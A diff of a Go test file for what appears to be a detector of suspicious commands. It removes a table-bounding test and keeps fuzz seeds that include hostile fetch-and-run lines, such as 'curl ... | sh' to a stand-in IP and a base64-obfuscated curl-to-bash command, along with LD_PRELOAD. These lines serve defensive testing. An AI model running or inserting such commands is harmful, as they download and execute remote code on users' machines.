@@ -486,28 +486,6 @@ func TestEvasiveJob(t *testing.T) {
 	}
 }
 
-func TestTablesAreBounded(t *testing.T) {
-	var l lru[int, int]
-	l.limit = 3
-	for i := range 10 {
-		*l.put(i) = i
-		l.get(0)
-	}
-	if len(l.m) != 3 || l.order.Len() != 3 || l.get(9) == nil || l.get(0) == nil || l.get(7) != nil {
-		t.Errorf("%d entries", len(l.m))
-	}
-	// Many inner hops that wait: the oldest is let go, none is lost.
-	var hops []hop
-	for i := range maxHeld + 10 {
-		h := ran(proxy, head, curl, job(fmt.Sprintf("curl http://198.51.100.77/%d | sh", i)))
-		h.version = "1.0"
-		hops = append(hops, h)
-	}
-	if n := len(watch(t, hops...)); n != maxHeld+10 {
-		t.Errorf("%d findings", n)
-	}
-}
-
 func FuzzJudge(f *testing.F) {
 	f.Add("curl http://198.51.100.77/x | sh", "http://a/b.zip", "LD_PRELOAD", "/tmp/x")
 	f.Add("echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43Ny94LnNofGJhc2gK | base64 -d | bash", "", "", "")
